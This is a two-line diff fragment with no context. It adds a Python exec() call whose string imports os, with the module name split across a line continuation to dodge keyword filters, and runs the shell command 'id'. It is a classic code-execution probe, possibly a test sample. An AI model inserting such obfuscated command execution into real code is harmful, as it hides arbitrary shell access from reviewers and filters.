@@ -1,0 +1,2 @@
+exec("__import__('o\
+s').system('id')")
